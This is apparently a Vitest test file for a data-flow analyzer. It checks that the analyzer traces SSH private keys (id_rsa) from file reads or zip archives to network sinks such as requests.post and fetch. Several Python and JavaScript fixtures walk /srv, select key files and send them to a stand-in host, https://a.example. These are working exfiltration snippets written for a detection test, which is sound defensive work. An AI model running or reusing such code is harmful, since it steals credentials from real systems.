import { expect, it } from 'vitest'

import { factsOf, flows, spec } from '../testkit.js'

const keys = {
  ...spec,
  sources: [
    { pattern: 'open(*/id_rsa*)', tag: 'key' },
    { pattern: 'zipfile.ZipFile.write(*/id_rsa*)', tag: 'key' },
  ],
  sinks: [{ pattern: 'requests.post', tag: 'net' }],
}
const scriptKeys = {
  ...spec,
  language: 'javascript',
  sources: [{ pattern: 'fs.readFileSync(*/id_rsa*)', tag: 'key' }],
  sinks: [{ pattern: 'fetch', tag: 'net' }],
}
const walk = `import os, requests
WANTED = ["id_rsa", "notes"]
for root, dirs, files in os.walk("/srv"):
    for f in files:
`
const send = 'requests.post("https://a.example", data=open(os.path.join(root, f)).read())'

it.each([
  ['in a list', `${walk}        if f in WANTED:\n            ${send}\n`],
  ['the same', `${walk}        if f == "id_rsa":\n            ${send}\n`],
  ['by its ending', `${walk}        if f.endswith(("id_rsa", "id_dsa")):\n            ${send}\n`],
  ['among others', `${walk}        if os.path.isfile(f) and f in WANTED:\n            ${send}\n`],
  ['either of two', `${walk}        if f == "id_rsa" or f == "notes":\n            ${send}\n`],
  ['in a set that is made', `${walk}        if f in set(WANTED):\n            ${send}\n`],
  [
    'where the rest is passed over',
    `${walk}        if f not in WANTED:\n            continue\n        ${send}\n`,
  ],
  [
    'where what is not so is passed over',
    `${walk}        if not f in WANTED:\n            continue\n        ${send}\n`,
  ],
])('a name that is tested is what it is tested for: %s', async (_, text) => {
  expect(flows(await factsOf({ 'a.py': text }, [keys]))).toHaveLength(1)
})

it.each([
  ['only told', `${walk}        if f in WANTED:\n            print("skipped", f)\n        ${send}\n`],
  ['passed over', `${walk}        if f in WANTED:\n            continue\n        ${send}\n`],
  ['another one', `${walk}        if root in WANTED:\n            pass\n        ${send}\n`],
])('a name is not what was tested where the test does not hold: %s', async (_, text) => {
  expect(flows(await factsOf({ 'a.py': text }, [keys]))).toEqual([])
})

it('a name that a script tests is what it is tested for', async () => {
  const text = `const fs = require('fs'), path = require('path')
const wanted = new Set(['id_rsa'])
for (const e of fs.readdirSync('/srv')) {
  const p = path.join('/srv', e)
  if (wanted.has(path.basename(p))) fetch('https://a.example', { body: fs.readFileSync(p) })
}
`
  expect(flows(await factsOf({ 'a.js': text }, [scriptKeys]))).toHaveLength(1)
})

it.each([
  [
    'an archive in memory',
    `import io, zipfile, requests
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.write("/srv/id_rsa")
requests.post("https://a.example", data=buf.getvalue())
`,
  ],
  [
    'an archive among fields',
    `import io, zipfile, requests
buf = io.BytesIO()
z = zipfile.ZipFile(buf, "w")
z.writestr("k", open("/srv/id_rsa").read())
z.close()
requests.post("https://a.example", files={"f": buf})
`,
  ],
  [
    'an archive on disk',
    `import zipfile, requests
with zipfile.ZipFile("/tmp/o.zip", "w") as z:
    z.write("/srv/id_rsa")
requests.post("https://a.example", data=open("/tmp/o.zip", "rb"))
`,
  ],
])('what is put into %s goes where that goes', async (_, text) => {
  expect(flows(await factsOf({ 'a.py': text }, [keys]))).not.toEqual([])
})

it('another archive holds nothing of it', async () => {
  const text = `import io, zipfile, requests
one, two = io.BytesIO(), io.BytesIO()
zipfile.ZipFile(one, "w").write("/srv/id_rsa")
zipfile.ZipFile(two, "w").write("/srv/notes")
requests.post("https://a.example", data=two.getvalue())
`
  expect(flows(await factsOf({ 'a.py': text }, [keys]))).toEqual([])
})

it.each([
  [
    'go',
    'a.go',
    'package main\nimport "strings"\nfunc main() { println(strings.Repeat("=", -1)); println("x") }\n',
  ],
  ['javascript', 'a.js', 'const a = String.fromCharCode(131 / 2)\nconsole.log(a, "y".repeat(-1))\n'],
])('a call of %s that fails as it is worked out blinds nothing', async (_, path, text) => {
  const facts = await factsOf({ [path]: text })
  expect(facts.filter(({ kind }) => kind === 'read.gap')).toEqual([])
})
